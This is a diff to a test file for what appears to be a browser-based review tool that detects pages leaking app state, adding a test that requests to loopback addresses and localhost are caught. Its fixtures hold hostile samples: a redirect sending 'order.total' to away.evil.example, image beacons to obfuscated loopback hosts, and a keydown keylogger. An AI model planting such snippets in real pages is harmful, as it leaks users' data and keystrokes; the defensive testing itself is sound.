@@ -46,6 +46,12 @@ EXTRA = {
     # The host module removes a frame that navigated away: a navigation, not a hang.
     "navigates_away.html": "<p data-bind=\"order.total\"></p>\n<script>\n"
                            "  location.href = 'https://away.evil.example/land?t=' + flowUi.get('order.total');\n</script>\n",
+    # Requests to this machine, the address built at run time: each engine's proxy bypass for
+    # loopback is off, so they reach the review's proxy like any other.
+    "to_this_machine.html": "<p data-bind=\"order.total\"></p>\n<script>\n  const t = flowUi.get('order.total');\n"
+                            "  const me = [127, 0, 0, 1].join('.');\n"
+                            "  for (const host of [me + ':8443', 'local' + 'host:8444', '[::1]:9443', '127.7.7.7'])\n"
+                            "    new Image().src = 'https://' + host + '/c?t=' + t;\n</script>\n",
     # Reads keys, not the field's value: only real key events give it the typed text.
     "keydown_logger.html": "<textarea id=t></textarea>\n<script>\n  let keys = '';\n"
                            "  document.addEventListener('keydown', (e) => {\n    if (e.key.length === 1) keys += e.key;\n"
@@ -62,6 +68,7 @@ READS = {
     "test_typed_text_is_followed_through_base64": ["typed_keylogger.html"],
     "test_typing_is_key_by_key": ["keydown_logger.html"],
     "test_a_block_that_navigates_away_is_a_navigation_not_a_hang": ["navigates_away.html"],
+    "test_requests_to_this_machine_are_seen": ["to_this_machine.html"],
     "test_a_busy_loop_hits_the_time_limit_and_the_run_goes_on": BUSY_THEN,
     "test_screenshots_in_light_and_dark": [],  # its own review
     "test_bridge_traffic_is_recorded": ["benign_form"],
@@ -175,6 +182,14 @@ def test_a_block_that_navigates_away_is_a_navigation_not_a_hang(flowui_engine, r
     rules = {(f.rule, tuple(f.paths), tuple(f.hosts)) for f in by_engine(result, flowui_engine.name)}
     assert ("exfil.state-to-url", ("order.total",), ("away.evil.example",)) in rules, rules
     assert "browser.frame-navigated" in {r for r, _, _ in rules}, rules
+
+
+def test_requests_to_this_machine_are_seen(flowui_engine, run):
+    """Loopback addresses and ``localhost`` go through the review's proxy too (engines bypass a
+    proxy for them unless told not to: before, no engine saw the first two, Chromium and Firefox none)."""
+    found = {(tuple(f.hosts), tuple(f.paths)) for f in by_engine(run["to_this_machine.html"], flowui_engine.name)
+             if f.rule == "exfil.state-to-url"}
+    assert found == {((h,), ("order.total",)) for h in ("127.0.0.1:8443", "localhost:8444", "[::1]:9443", "127.7.7.7")}, found
 
 
 def test_a_busy_loop_hits_the_time_limit_and_the_run_goes_on(flowui_engine, run):
